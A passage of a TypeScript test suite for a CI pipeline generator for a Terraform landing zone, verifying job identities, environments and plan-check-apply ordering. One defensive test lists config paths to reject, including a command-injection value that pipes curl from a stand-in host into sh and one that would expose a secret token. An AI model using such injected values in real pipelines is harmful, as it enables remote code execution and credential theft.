import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse, stringify } from "yaml";
import { benchTenantId, generateConfig } from "../../bench/generate-config";
import { validateConfig } from "../../lib/config/load";
import { pipelinePlanOf, renderPipeline } from "../../lib/cli/pipeline";
import { githubWorkflow } from "../../lib/pipeline/github";
import { PLAN_FILE, PLANS_DIR, planFilesOf, planJsonOf, stackDir, type PipelinePlan } from "../../lib/pipeline/types";
import { defaultConfigInput, problemsOf, runCli } from "../helpers";

const PROVIDER = "projects/123456789/locations/global/workloadIdentityPools/sovereign-lz/providers/ci-oidc";
const OPERATOR = "ci-operator@op-key-custody.iam.gserviceaccount.com";
const PLATFORM = "ci-platform@slz-ci.iam.gserviceaccount.com";
const OPERATOR_PLAN = "ci-operator-plan@op-key-custody.iam.gserviceaccount.com";
const PLATFORM_PLAN = "ci-platform-reader@slz-ci.iam.gserviceaccount.com";
const deployerOf = (tenant: string) => `deploy-${tenant}@slz-ci.iam.gserviceaccount.com`;
const plannerOf = (tenant: string) => `deploy-${tenant}-plan@slz-ci.iam.gserviceaccount.com`;

/** The default config with `tenants` tenants, shared state, a pipeline section and a deployer per tenant (planners by default, the platform's given). */
function pipelineConfigInput(tenants: number, maxParallel = 20): any {
  const raw = tenants === 2 ? defaultConfigInput() : generateConfig(defaultConfigInput(), tenants);
  raw.state = { backend: "gcs", bucket: "slz-tfstate-paris" };
  raw.pipeline = {
    workloadIdentityProvider: PROVIDER,
    operatorServiceAccount: OPERATOR,
    platformServiceAccount: PLATFORM,
    platformPlanServiceAccount: PLATFORM_PLAN,
    maxParallel,
  };
  for (const t of raw.tenants) t.deployer = deployerOf(t.id);
  return raw;
}
const planFor = (tenants: number, maxParallel = 20) => pipelinePlanOf(validateConfig(pipelineConfigInput(tenants, maxParallel)), "landing-zone.yaml");

type Mode = "plan" | "apply";
/** What a job does: plan and apply hold their role's identity, check holds none. */
type Kind = Mode | "check";

/** A job's mode by its id: `plan-<x>` plans, `check-<x>` checks a plan, every other stack job applies. */
const kindOf = (id: string): Kind => (id.startsWith("plan-") ? "plan" : id.startsWith("check-") ? "check" : "apply");

/** The identity each stack's job must use, by mode. */
function expectedIdentity(stack: string, mode: Mode): string {
  const tenant = stack.replace(/^tenant-/, "");
  if (stack === "key-custody") return mode === "plan" ? OPERATOR_PLAN : OPERATOR;
  if (stack === "foundation") return mode === "plan" ? PLATFORM_PLAN : PLATFORM;
  return mode === "plan" ? plannerOf(tenant) : deployerOf(tenant);
}

/** One stack job after matrix expansion. */
interface StackJobView {
  readonly id: string;
  readonly mode: Kind;
  readonly stack: string;
  readonly environment: string | undefined;
  readonly needs: string[];
  readonly identity: string | undefined;
  /** Whether the job can obtain an OIDC token (GitHub `id-token: write`, GitLab `id_tokens`). */
  readonly holdsToken: boolean;
  readonly maxParallel?: number;
  /** The text of the job as it runs (its matrix entry only), as JSON. */
  readonly text: string;
}

/** Every GitHub stack job after matrix expansion. */
function githubJobs(workflow: any): StackJobView[] {
  return Object.entries<any>(workflow.jobs)
    .filter(([id]) => id !== "synth")
    .flatMap(([id, job]) => {
      const mode = kindOf(id);
      const auth = job.steps.find((step: any) => String(step.uses).startsWith("google-github-actions/auth"));
      const entries: any[] = job.strategy?.matrix?.include ?? [{}];
      return entries.map((entry) => {
        const subst = (v: string | undefined) =>
          v?.replace("${{ matrix.stack }}", entry.stack).replace("${{ matrix.service_account }}", entry.service_account);
        const environment = subst(job.environment);
        return {
          id,
          mode,
          stack: environment?.replace(/-plan$/, "") ?? entry.stack ?? id.replace(/^check-/, ""),
          environment,
          needs: job.needs ?? [],
          identity: subst(auth?.with.service_account),
          holdsToken: job.permissions?.["id-token"] === "write",
          maxParallel: job.strategy?.["max-parallel"],
          text: JSON.stringify({ ...job, strategy: undefined }) + JSON.stringify(entry),
        };
      });
    });
}

/** A GitLab job with the templates it extends merged in (the job's own keys win). */
function resolved(doc: any, job: any): any {
  return job?.extends ? { ...resolved(doc, doc[job.extends]), ...job } : { ...job };
}

/** Every GitLab stack job. */
function gitlabJobs(doc: any): StackJobView[] {
  return Object.entries<any>(doc)
    .filter(([, job]) => [".plan", ".check", ".apply"].includes(job?.extends))
    .map(([id, job]) => {
      const full = resolved(doc, job);
      return {
        id,
        mode: kindOf(id),
        stack: full.variables?.STACK ?? id.replace(/^check-/, ""),
        environment: full.environment?.name,
        needs: full.needs.map((n: any) => n.job),
        identity: full.variables?.SERVICE_ACCOUNT,
        holdsToken: full.id_tokens !== undefined,
        text: JSON.stringify(full),
      };
    });
}

/**
 * What is wrong with the identities of a pipeline's jobs: a job whose identity is not its stack's for its mode (a plan
 * job with an apply identity, a job with another role's identity), a job whose environment is not its stack's for its
 * mode, or a job whose text names any other identity of the landing zone.
 */
function identityViolations(jobs: readonly StackJobView[], plan: PipelinePlan): string[] {
  const all = plan.stacks.flatMap((s) => [s.identity, s.planIdentity]);
  const applies = new Set(plan.stacks.map((s) => s.identity));
  const out: string[] = [];
  for (const j of jobs) {
    if (j.mode === "check") {
      if (j.holdsToken || j.identity || j.environment) out.push(`${j.id} checks with an identity`);
      for (const other of all) if (j.text.includes(other)) out.push(`${j.id} names ${other}`);
      continue;
    }
    const own = expectedIdentity(j.stack, j.mode);
    if (j.identity !== own) out.push(`${j.id} (${j.stack}, ${j.mode}) uses ${j.identity}, not ${own}`);
    if (j.mode === "plan" && j.identity && applies.has(j.identity)) out.push(`${j.id} plans with an apply identity ${j.identity}`);
    if (j.environment !== (j.mode === "plan" ? `${j.stack}-plan` : j.stack)) out.push(`${j.id} runs in environment ${j.environment}`);
    for (const other of all.filter((i) => i !== own)) if (j.text.includes(other)) out.push(`${j.id} names ${other}`);
  }
  return out;
}

/** The Terraform subcommand of a shell command (`terraform -chdir=x apply plan.out`: `apply`), if it runs Terraform. */
const terraformCommand = (command: unknown): string | undefined =>
  typeof command === "string" && command.startsWith("terraform ")
    ? command
        .replace(/\$\{\{[^}]*\}\}/g, "expression")
        .split(/\s+/)
        .slice(1)
        .find((t) => !t.startsWith("-"))
    : undefined;

/** Whether a script's `terraform apply` applies anything but the saved plan (a new plan, variables, targets), or the script plans again. */
function applyProblems(id: string, commands: readonly string[]): string[] {
  const applies = commands.filter((c) => terraformCommand(c) === "apply");
  const out: string[] = [];
  if (applies.length !== 1 || !applies[0].endsWith(` ${PLAN_FILE}`) || /\s-(auto-approve|var|var-file|target|replace|destroy)\b/.test(applies[0]))
    out.push(`${id} applies something else than its saved plan: ${JSON.stringify(applies)}`);
  if (commands.some((c) => terraformCommand(c) === "plan")) out.push(`${id} plans again`);
  return out;
}

const isDownload = (step: any, name: string) => String(step.uses).startsWith("actions/download-artifact") && step.with?.name === name;
const isUpload = (step: any, name: string) => String(step.uses).startsWith("actions/upload-artifact") && step.with?.name === name;
const checksThePlans = (command: unknown) =>
  typeof command === "string" &&
  command.startsWith(`npx sovereign-lz check ${PLANS_DIR} --configuration cdktf.out/stacks `) &&
  !/[;&|>]/.test(command);

/**
 * What breaks "the plan applied is the plan checked, from the same run" in a GitHub workflow: per apply job, its plan
 * job must run on pushes, save the plan (`-out`) and its JSON and upload them; its check job must hold no identity,
 * judge the plan's JSON, and only then (no condition, no continue-on-error) upload it as `checked-<stack>`; the apply
 * job must need both, download that checked plan (not the plan job's), and apply it and nothing else.
 */
function githubPlanViolations(workflow: any): string[] {
  const out: string[] = [];
  const applyIds = Object.keys(workflow.jobs).filter((id) => id !== "synth" && kindOf(id) === "apply");
  for (const id of applyIds) {
    const [apply, plan, check] = [workflow.jobs[id], workflow.jobs[`plan-${id}`], workflow.jobs[`check-${id}`]];
    if (!plan || !check) {
      out.push(`${id} has no plan job or no check job`);
      continue;
    }
    const stack: string = apply.environment;
    const runs = (job: any): string[] => job.steps.flatMap((step: any) => (step.run ? [step.run] : []));
    for (const needed of [`plan-${id}`, `check-${id}`]) if (!apply.needs.includes(needed)) out.push(`${id} does not need ${needed}`);
    if (!String(apply.if).includes("github.event_name == 'push'")) out.push(`${id} applies outside pushes: ${apply.if}`);
    out.push(...applyProblems(id, runs(apply)));
    const applyAt = apply.steps.findIndex((step: any) => terraformCommand(step.run) === "apply");
    const takenAt = apply.steps.findIndex((step: any) => isDownload(step, `checked-${stack}`));
    if (takenAt < 0 || takenAt > applyAt) out.push(`${id} does not take the checked plan of its run`);
    if (apply.steps.some((step: any) => isDownload(step, `plan-${stack}`))) out.push(`${id} takes the unchecked plan`);

    if (check.permissions?.["id-token"] || check.environment) out.push(`check-${id} holds an identity`);
    const checkAt = check.steps.findIndex((step: any) => checksThePlans(step.run));
    if (checkAt < 0) out.push(`check-${id} does not check the plan's JSON`);
    if (!check.steps.some((step: any, i: number) => i < checkAt && isDownload(step, `plan-${stack}`)))
      out.push(`check-${id} does not take the plan of ${stack}`);
    if (!check.steps.some((step: any, i: number) => i < checkAt && isDownload(step, "cdktf-out")))
      out.push(`check-${id} does not take the synthesized stacks the plan was made from`);
    const releaseAt = check.steps.findIndex((step: any) => isUpload(step, `checked-${stack}`));
    const lenient = check["continue-on-error"] || check.steps[checkAt]?.["continue-on-error"] || check.steps[releaseAt]?.if !== undefined;
    if (checkAt < 0 || releaseAt < checkAt || lenient) out.push(`check-${id} hands the plan on without its check passing`);

    if (plan.if !== undefined && !String(plan.if).includes("github.event_name == 'pull_request' || "))
      out.push(`plan-${id} does not plan on pushes: ${plan.if}`);
    const planRuns = runs(plan);
    if (!planRuns.some((r) => terraformCommand(r) === "plan" && r.endsWith(` -out=${PLAN_FILE}`))) out.push(`plan-${id} saves no plan`);
    if (!planRuns.includes(`terraform -chdir=${stackDir(stack)} show -json ${PLAN_FILE} > ${planJsonOf(stack)}`))
      out.push(`plan-${id} writes no plan JSON`);
    const saved = plan.steps.find((step: any) => isUpload(step, `plan-${stack}`));
    if (!saved || planFilesOf(stack).some((f) => !String(saved.with.path).split("\n").includes(f)))
      out.push(`plan-${id} does not hand on ${planFilesOf(stack)}`);
  }
  return out;
}

/**
 * The same for GitLab CI: per apply job, its plan job must run on the branch, save the plan and its JSON as artifacts;
 * its check job must hold no identity, take the plan's JSON, judge it and may not fail quietly (`allow_failure`); the
 * apply job must need the check and the plan job's artifacts, and apply the saved plan and nothing else.
 */
function gitlabPlanViolations(doc: any): string[] {
  const out: string[] = [];
  for (const [id, job] of Object.entries<any>(doc).filter(([, j]) => j?.extends === ".apply")) {
    const apply = resolved(doc, job);
    const stack: string = apply.variables.STACK;
    const [planId, checkId] = [`plan-${stack}`, `check-${stack}`];
    const [plan, check] = [resolved(doc, doc[planId]), resolved(doc, doc[checkId])];
    const need = (job: any, name: string) => (job.needs ?? []).find((n: any) => n.job === name);
    if (!need(apply, checkId) || need(apply, checkId).optional) out.push(`${id} does not need ${checkId}`);
    if (!need(apply, planId)?.artifacts) out.push(`${id} does not take the saved plan of ${planId}`);
    if (apply.rules?.some((r: any) => /== "merge_request_event"/.test(r.if))) out.push(`${id} applies in merge requests`);
    out.push(...applyProblems(id, apply.script ?? []));

    if (check.id_tokens || check.variables?.SERVICE_ACCOUNT || check.environment) out.push(`${checkId} holds an identity`);
    if (!(check.script ?? []).some(checksThePlans)) out.push(`${checkId} does not check the plan's JSON`);
    if (!need(check, planId)?.artifacts) out.push(`${checkId} does not take the plan of ${planId}`);
    if (!need(check, "synth")?.artifacts) out.push(`${checkId} does not take the synthesized stacks the plan was made from`);
    if (check.allow_failure !== undefined && check.allow_failure !== false) out.push(`${checkId} may fail without stopping ${id}`);

    if (!plan.rules?.some((r: any) => r.if === apply.rules?.[0]?.if)) out.push(`${planId} does not plan on the branch`);
    if (!(plan.script ?? []).some((r: string) => terraformCommand(r) === "plan" && r.endsWith(` -out=${PLAN_FILE}`)))
      out.push(`${planId} saves no plan`);
    if (!(plan.script ?? []).includes(`terraform -chdir=${stackDir("$STACK")} show -json ${PLAN_FILE} > ${planJsonOf("$STACK")}`))
      out.push(`${planId} writes no plan JSON`);
    if (planFilesOf(stack).some((f) => !(plan.artifacts?.paths ?? []).includes(f))) out.push(`${planId} does not keep ${planFilesOf(stack)}`);
  }
  return out;
}

describe("sovereign-lz pipeline github", () => {
  for (const tenants of [1, 2, 200]) {
    describe(`${tenants} tenant(s)`, () => {
      const plan = planFor(tenants);
      const workflow = parse(githubWorkflow(plan));
      const jobs = githubJobs(workflow);

      it("has a plan, a check and an apply job per stack, each in dependency order: key-custody, foundation, then the tenants", () => {
        for (const mode of ["plan", "check", "apply"] as const) {
          const ofMode = jobs.filter((j) => j.mode === mode);
          expect(ofMode.map((j) => j.stack).sort()).toEqual(plan.stacks.map((s) => s.stack).sort());
          expect(ofMode).toHaveLength(tenants + 2);
        }
        const needsOf = (mode: Kind, stack: string) => jobs.find((j) => j.mode === mode && j.stack === stack)!.needs;
        expect(needsOf("plan", "key-custody")).toEqual(["synth"]);
        expect(needsOf("plan", "foundation")).toEqual(["synth", "plan-key-custody", "key-custody"]);
        expect(needsOf("check", "foundation")).toEqual(["plan-foundation"]);
        expect(needsOf("apply", "key-custody")).toEqual(["synth", "plan-key-custody", "check-key-custody"]);
        expect(needsOf("apply", "foundation")).toEqual(["synth", "plan-foundation", "check-foundation", "key-custody"]);
        for (const j of jobs.filter((x) => x.stack.startsWith("tenant-"))) {
          const group = j.id.replace(/^(plan|check)-/, "");
          expect(j.needs).toEqual(
            j.mode === "plan"
              ? ["synth", "plan-key-custody", "plan-foundation", "key-custody", "foundation"]
              : j.mode === "check"
                ? ["plan-foundation", `plan-${group}`]
                : ["synth", `plan-${group}`, `check-${group}`, "key-custody", "foundation"],
          );
          expect(j.maxParallel).toBe(Math.min(20, plan.maxParallel));
        }
      });

      it("gates everything on the credential-less synth and sovereignty check", () => {
        const synth = workflow.jobs.synth;
        expect(synth.permissions).not.toHaveProperty("id-token");
        expect(synth.steps.map((s: any) => s.run ?? s.uses).join("\n")).toMatch(/sovereign-lz check cdktf\.out .*--format sarif/);
        expect(jobs.filter((j) => j.mode !== "check").every((j) => j.needs[0] === "synth")).toBe(true);
        expect(synth.steps.some((s: any) => s.uses?.startsWith("google-github-actions/auth"))).toBe(false);
      });

      it("plans with read-only identities only, checks with none, applies with apply identities only, and no job names another role's identity", () => {
        expect(identityViolations(jobs, plan)).toEqual([]);
        const withEnvironment = jobs.filter((j) => j.environment);
        expect(new Set(withEnvironment.map((j) => j.environment)).size).toBe(withEnvironment.length);
        expect(withEnvironment).toHaveLength(2 * (tenants + 2));
      });

      it("applies on pushes the plan its run made and checked, and only that plan", () => {
        expect(githubPlanViolations(workflow)).toEqual([]);
      });

      it("plans on pull requests into the branch and on pushes to it, applies on pushes only, with state per stack", () => {
        expect(workflow.on).toEqual({ pull_request: { branches: ["main"] }, push: { branches: ["main"] } });
        expect(workflow.concurrency).toEqual({ group: "sovereign-lz-${{ github.ref }}", "cancel-in-progress": false });
        const runs = (id: string) =>
          workflow.jobs[id].steps
            .map((step: any) => step.run)
            .filter(Boolean)
            .join("\n");
        expect(workflow.jobs["plan-key-custody"].if).toBeUndefined();
        expect(workflow.jobs["plan-foundation"].if).toMatch(
          /\(github\.event_name == 'pull_request' \|\| \(needs\['key-custody'\]\.result == 'success'\)\)$/,
        );
        expect(runs("plan-key-custody")).toMatch(/-chdir=cdktf\.out\/stacks\/key-custody plan .*-out=plan\.out/);
        expect(runs("plan-key-custody")).not.toMatch(/ apply /);
        expect(workflow.jobs["key-custody"].if).toBe("github.event_name == 'push'");
        expect(runs("key-custody")).toMatch(/^terraform -chdir=cdktf\.out\/stacks\/key-custody apply -input=false -lock-timeout=10m plan\.out$/m);
        expect(runs("key-custody")).not.toMatch(/auto-approve/);
      });
    });
  }

  it("splits more tenants than one matrix takes into matrices that together keep the cap", () => {
    const workflow = parse(githubWorkflow(planFor(5, 4), { matrixLimit: 2 }));
    const tenantJobs = Object.keys(workflow.jobs).filter((id) => id.startsWith("tenants"));
    expect(tenantJobs).toEqual(["tenants-1", "tenants-2", "tenants-3"]);
    for (const kind of ["plan", "check"])
      expect(Object.keys(workflow.jobs).filter((id) => id.startsWith(`${kind}-tenants`))).toEqual([1, 2, 3].map((i) => `${kind}-tenants-${i}`));
    const caps = tenantJobs.map((id) => workflow.jobs[id].strategy["max-parallel"]);
    expect(caps.reduce((a, b) => a + b, 0)).toBeLessThanOrEqual(4);
    expect(tenantJobs.flatMap((id) => workflow.jobs[id].strategy.matrix.include.map((e: any) => e.stack))).toEqual(
      [0, 1, 2, 3, 4].map((i) => `tenant-${benchTenantId(i)}`),
    );
    expect(githubPlanViolations(workflow)).toEqual([]);
  });
});

describe("sovereign-lz pipeline gitlab", () => {
  for (const tenants of [1, 2, 200]) {
    it(`${tenants} tenant(s): a plan, a check and an apply job per stack in order, capped tenant lanes, each with its own identity`, () => {
      const plan: PipelinePlan = planFor(tenants);
      const doc = parse(renderPipeline("gitlab", plan));
      const jobs = gitlabJobs(doc);
      for (const mode of ["plan", "check", "apply"] as const) {
        const id = (stack: string) => (mode === "apply" ? stack : `${mode}-${stack}`);
        const ofMode = jobs.filter((j) => j.mode === mode);
        expect(ofMode.map((j) => j.id)).toEqual(plan.stacks.map((s) => id(s.stack)));
        const lanes = new Set<string>();
        for (const j of ofMode) {
          const deps = j.stack === "key-custody" ? [] : j.stack === "foundation" ? ["key-custody"] : ["key-custody", "foundation"];
          if (mode === "plan") expect(j.needs).toEqual(["synth", ...deps.map((d) => `plan-${d}`), ...deps]);
          else if (mode === "check")
            expect(j.needs).toEqual(["synth", ...(j.stack.startsWith("tenant-") ? ["plan-foundation", `plan-${j.stack}`] : [`plan-${j.stack}`])]);
          else expect(j.needs).toEqual(["synth", `plan-${j.stack}`, `check-${j.stack}`, ...deps]);
          if (mode !== "check" && j.stack.startsWith("tenant-")) lanes.add(doc[j.id].resource_group);
        }
        if (mode !== "check") expect(lanes.size).toBe(Math.min(tenants, 20));
      }
      expect(identityViolations(jobs, plan)).toEqual([]);
      expect(gitlabPlanViolations(doc)).toEqual([]);
      expect(doc["plan-key-custody"].environment).toEqual({ name: "key-custody-plan", action: "prepare" });
      expect(doc["key-custody"].environment).toEqual({ name: "key-custody" });
      expect(doc["plan-foundation"].needs).toContainEqual({ job: "key-custody", artifacts: false, optional: true });
      for (const template of [".stack", ".plan", ".check", ".apply"]) expect(stringify(doc[template])).not.toMatch(/@.*iam\.gserviceaccount\.com/);
      expect(doc.synth.script.join("\n")).toMatch(/sovereign-lz check cdktf\.out .*--format sarif/);
      expect(doc.synth).not.toHaveProperty("id_tokens");
      expect(doc[".check"]).toMatchObject({ image: "node:20", cache: { key: { files: ["package-lock.json"] }, paths: [".npm/"] } });
      expect(doc[".check"].script[0]).toBe("npm ci --cache .npm --prefer-offline");
      expect(doc[".plan"].rules).toEqual([
        { if: '$CI_PIPELINE_SOURCE == "merge_request_event" && $CI_MERGE_REQUEST_TARGET_BRANCH_NAME == "main"' },
        { if: '$CI_PIPELINE_SOURCE != "merge_request_event" && $CI_COMMIT_BRANCH == "main"' },
      ]);
      expect(doc[".plan"].script.join("\n")).not.toMatch(/ apply /);
      expect(doc[".apply"].rules).toEqual([{ if: '$CI_PIPELINE_SOURCE != "merge_request_event" && $CI_COMMIT_BRANCH == "main"' }]);
      expect(doc[".apply"].script).toEqual([
        "terraform -chdir=cdktf.out/stacks/$STACK init -input=false -lockfile=readonly",
        "terraform -chdir=cdktf.out/stacks/$STACK apply -input=false -lock-timeout=10m plan.out",
      ]);
    });
  }
});

describe("the identity check of the tests catches what it must (negative)", () => {
  const plan = planFor(2);
  const github = () => parse(githubWorkflow(plan));
  const gitlab = () => parse(renderPipeline("gitlab", plan));

  it("a plan job given its role's apply identity", () => {
    const workflow = github();
    workflow.jobs["plan-key-custody"].steps.find((s: any) => s.uses?.startsWith("google-github-actions/auth")).with.service_account = OPERATOR;
    expect(identityViolations(githubJobs(workflow), plan)).toEqual(
      expect.arrayContaining([
        `plan-key-custody (key-custody, plan) uses ${OPERATOR}, not ${OPERATOR_PLAN}`,
        `plan-key-custody plans with an apply identity ${OPERATOR}`,
      ]),
    );
    const doc = gitlab();
    doc["plan-tenant-agence-b"].variables.SERVICE_ACCOUNT = deployerOf("agence-b");
    expect(identityViolations(gitlabJobs(doc), plan)).toContain(`plan-tenant-agence-b plans with an apply identity ${deployerOf("agence-b")}`);
  });

  it("a job given another role's identity, or another tenant's, or another stack's environment", () => {
    const workflow = github();
    workflow.jobs["plan-tenants"].strategy.matrix.include[0].service_account = plannerOf("agence-b");
    workflow.jobs.foundation.environment = "key-custody";
    const violations = identityViolations(githubJobs(workflow), plan);
    expect(violations).toContain(`plan-tenants (tenant-ministere-a, plan) uses ${plannerOf("agence-b")}, not ${plannerOf("ministere-a")}`);
    expect(violations).toContain(`foundation (key-custody, apply) uses ${PLATFORM}, not ${OPERATOR}`);
    const doc = gitlab();
    doc["key-custody"].variables.SERVICE_ACCOUNT = PLATFORM;
    doc.foundation.script = [`echo ${OPERATOR}`];
    const gitlabViolations = identityViolations(gitlabJobs(doc), plan);
    expect(gitlabViolations).toContain(`key-custody (key-custody, apply) uses ${PLATFORM}, not ${OPERATOR}`);
    expect(gitlabViolations).toContain(`foundation names ${OPERATOR}`);
  });

  it("a plan job in the apply environment", () => {
    const workflow = github();
    workflow.jobs["plan-foundation"].environment = "foundation";
    expect(identityViolations(githubJobs(workflow), plan)).toEqual(["plan-foundation runs in environment foundation"]);
  });

  it("a check job that can obtain a token or names an identity", () => {
    const workflow = github();
    workflow.jobs["check-tenants"].permissions["id-token"] = "write";
    expect(identityViolations(githubJobs(workflow), plan)).toEqual([
      "check-tenants checks with an identity",
      "check-tenants checks with an identity",
    ]);
    const doc = gitlab();
    doc[".check"].extends = ".stack";
    doc["check-foundation"].variables = { SERVICE_ACCOUNT: PLATFORM };
    const violations = identityViolations(gitlabJobs(doc), plan);
    expect(violations).toContain("check-key-custody checks with an identity");
    expect(violations).toContain(`check-foundation names ${PLATFORM}`);
    expect(gitlabPlanViolations(doc)).toContain("check-foundation holds an identity");
  });
});

describe("the plan check of the tests catches an apply that does not apply the checked plan of its run (negative)", () => {
  const github = () => parse(githubWorkflow(planFor(2)));
  const gitlab = () => parse(renderPipeline("gitlab", planFor(2)));
  const applyStep = (job: any) => job.steps.find((s: any) => / apply /.test(s.run ?? ""));

  it("GitHub: an apply that does not wait for its check, or re-plans, or applies the plan job's unchecked artifact", () => {
    let workflow = github();
    workflow.jobs.foundation.needs = workflow.jobs.foundation.needs.filter((n: string) => n !== "check-foundation");
    expect(githubPlanViolations(workflow)).toEqual(["foundation does not need check-foundation"]);

    workflow = github();
    applyStep(workflow.jobs.tenants).run = "terraform -chdir=cdktf.out/stacks/${{ matrix.stack }} apply -input=false -auto-approve -lock-timeout=10m";
    expect(githubPlanViolations(workflow)).toEqual([expect.stringMatching(/^tenants applies something else than its saved plan/)]);

    workflow = github();
    workflow.jobs["key-custody"].steps.splice(3, 0, { run: "terraform -chdir=cdktf.out/stacks/key-custody plan -out=plan.out" });
    expect(githubPlanViolations(workflow)).toEqual(["key-custody plans again"]);

    workflow = github();
    workflow.jobs.foundation.steps.find((s: any) => isDownload(s, "checked-foundation")).with.name = "plan-foundation";
    expect(githubPlanViolations(workflow)).toEqual(["foundation does not take the checked plan of its run", "foundation takes the unchecked plan"]);
  });

  it("GitHub: a check that hands the plan on whatever its verdict, or judges the synthesized stacks instead of the plan", () => {
    let workflow = github();
    workflow.jobs["check-tenants"].steps.find((s: any) => isUpload(s, "checked-${{ matrix.stack }}")).if = "always()";
    expect(githubPlanViolations(workflow)).toEqual(["check-tenants hands the plan on without its check passing"]);

    workflow = github();
    workflow.jobs["check-foundation"].steps.find((s: any) => checksThePlans(s.run))["continue-on-error"] = true;
    expect(githubPlanViolations(workflow)).toEqual(["check-foundation hands the plan on without its check passing"]);

    workflow = github();
    const step = workflow.jobs["check-key-custody"].steps.find((s: any) => checksThePlans(s.run));
    step.run = "npx sovereign-lz check cdktf.out --profile paris --operator-project op-key-custody";
    expect(githubPlanViolations(workflow)).toEqual(
      expect.arrayContaining(["check-key-custody does not check the plan's JSON", "check-key-custody hands the plan on without its check passing"]),
    );

    workflow = github();
    workflow.jobs["check-key-custody"].steps.find((s: any) => checksThePlans(s.run)).run += " || true";
    expect(githubPlanViolations(workflow)).toContain("check-key-custody does not check the plan's JSON");
  });

  it("GitHub: a plan job that plans only in pull requests, or saves no plan", () => {
    let workflow = github();
    workflow.jobs["plan-foundation"].if = "github.event_name == 'pull_request'";
    expect(githubPlanViolations(workflow)).toEqual([expect.stringMatching(/^plan-foundation does not plan on pushes/)]);

    workflow = github();
    const planStep = workflow.jobs["plan-key-custody"].steps.find((s: any) => / plan /.test(s.run ?? ""));
    planStep.run = planStep.run.replace(" -out=plan.out", "");
    expect(githubPlanViolations(workflow)).toEqual(["plan-key-custody saves no plan"]);
  });

  it("a check without the synthesized stacks its plans were made from (their waivers, the expressions a plan leaves out)", () => {
    const workflow = github();
    workflow.jobs["check-foundation"].steps = workflow.jobs["check-foundation"].steps.filter((s: any) => !isDownload(s, "cdktf-out"));
    expect(githubPlanViolations(workflow)).toEqual(["check-foundation does not take the synthesized stacks the plan was made from"]);
    const doc = gitlab();
    doc["check-tenant-agence-b"].needs = doc["check-tenant-agence-b"].needs.filter((n: any) => n.job !== "synth");
    expect(gitlabPlanViolations(doc)).toEqual(["check-tenant-agence-b does not take the synthesized stacks the plan was made from"]);
  });

  it("GitLab: an apply that does not need its check, or not its plan job's saved plan, or applies without it", () => {
    let doc = gitlab();
    doc.foundation.needs = doc.foundation.needs.filter((n: any) => n.job !== "check-foundation");
    expect(gitlabPlanViolations(doc)).toEqual(["foundation does not need check-foundation"]);

    doc = gitlab();
    doc["tenant-agence-b"].needs.find((n: any) => n.job === "check-tenant-agence-b").optional = true;
    doc["tenant-agence-b"].needs.find((n: any) => n.job === "plan-tenant-agence-b").artifacts = false;
    expect(gitlabPlanViolations(doc)).toEqual([
      "tenant-agence-b does not need check-tenant-agence-b",
      "tenant-agence-b does not take the saved plan of plan-tenant-agence-b",
    ]);

    doc = gitlab();
    doc[".apply"].script = ["terraform -chdir=cdktf.out/stacks/$STACK apply -input=false -auto-approve"];
    expect(gitlabPlanViolations(doc)).toHaveLength(4);
    expect(gitlabPlanViolations(doc)[0]).toMatch(/^key-custody applies something else than its saved plan/);
  });

  it("GitLab: a check allowed to fail, a check of the synthesized stacks, a plan job kept out of the branch", () => {
    let doc = gitlab();
    doc["check-key-custody"].allow_failure = true;
    expect(gitlabPlanViolations(doc)).toEqual(["check-key-custody may fail without stopping key-custody"]);

    doc = gitlab();
    doc[".check"].script = ["npm ci", "npx sovereign-lz check cdktf.out --profile paris"];
    expect(gitlabPlanViolations(doc)).toEqual(
      ["key-custody", "foundation", "tenant-ministere-a", "tenant-agence-b"].map((s) => `check-${s} does not check the plan's JSON`),
    );

    doc = gitlab();
    doc[".plan"].rules = doc[".plan"].rules.slice(0, 1);
    doc["plan-foundation"].artifacts.paths = [planJsonOf("foundation")];
    expect(gitlabPlanViolations(doc)).toEqual([
      "plan-key-custody does not plan on the branch",
      "plan-foundation does not plan on the branch",
      expect.stringMatching(/^plan-foundation does not keep /),
      "plan-tenant-ministere-a does not plan on the branch",
      "plan-tenant-agence-b does not plan on the branch",
    ]);
  });
});

describe("a config not ready for a pipeline", () => {
  it("lists every missing piece at once: shared state, the pipeline section, each tenant's deployer", () => {
    const raw = defaultConfigInput();
    expect(() => pipelinePlanOf(validateConfig(raw), "lz.yaml")).toThrow(
      /state\.backend: "local" cannot be shared by CI jobs[\s\S]*pipeline: missing[\s\S]*tenants\[0\]\.deployer: missing/,
    );
  });

  it("refuses a config path that would run in the jobs' shell commands, and takes a plain one", () => {
    const config = validateConfig(pipelineConfigInput(1));
    expect(pipelinePlanOf(config, "config/landing-zone.prod.yaml").configPath).toBe("config/landing-zone.prod.yaml");
    for (const path of ["my lz.yaml", "lz$(curl evil.example|sh).yaml", "lz-${{ secrets.TOKEN }}.yaml", "--help"]) {
      expect(() => pipelinePlanOf(config, path)).toThrow(`--config: ${JSON.stringify(path)} cannot be written into the pipeline's shell commands`);
    }
  });

  it("refuses one identity for two roles, and a malformed provider", () => {
    expect(
      problemsOf((c) => {
        Object.assign(c, pipelineConfigInput(2));
        c.pipeline.platformServiceAccount = OPERATOR;
        c.tenants[1].deployer = OPERATOR;
      }),
    ).toEqual([
      `pipeline.platformServiceAccount: "${OPERATOR}" is already the identity of the operator (allowed: one identity per role, to apply and to plan)`,
      `tenants[1].deployer: "${OPERATOR}" is already the identity of the operator (allowed: one identity per role, to apply and to plan)`,
      `tenants[1].planner: "${OPERATOR_PLAN}" is already the identity of the operator (plan) (allowed: one identity per role, to apply and to plan)`,
    ]);
  });

  it("refuses a plan identity that is an apply identity or another role's, and one it cannot derive", () => {
    expect(
      problemsOf((c) => {
        Object.assign(c, pipelineConfigInput(2));
        c.pipeline.operatorPlanServiceAccount = OPERATOR;
        c.tenants[0].planner = PLATFORM_PLAN;
        c.tenants[1].deployer = "a-deployer-with-a-long-name26@slz-ci.iam.gserviceaccount.com";
      }),
    ).toEqual([
      `pipeline.operatorPlanServiceAccount: "${OPERATOR}" is already the identity of the operator (allowed: one identity per role, to apply and to plan)`,
      `tenants[0].planner: "${PLATFORM_PLAN}" is already the identity of the platform (plan) (allowed: one identity per role, to apply and to plan)`,
      'tenants[1].planner: missing, and "a-deployer-with-a-long-name26@slz-ci.iam.gserviceaccount.com" is too long to derive one (allowed: a service account email of a read-only identity)',
    ]);
    expect(
      problemsOf((c) =>
        Object.assign(c, pipelineConfigInput(2), {
          tenants: [{ ...pipelineConfigInput(2).tenants[0], planner: "x" }, pipelineConfigInput(2).tenants[1]],
        }),
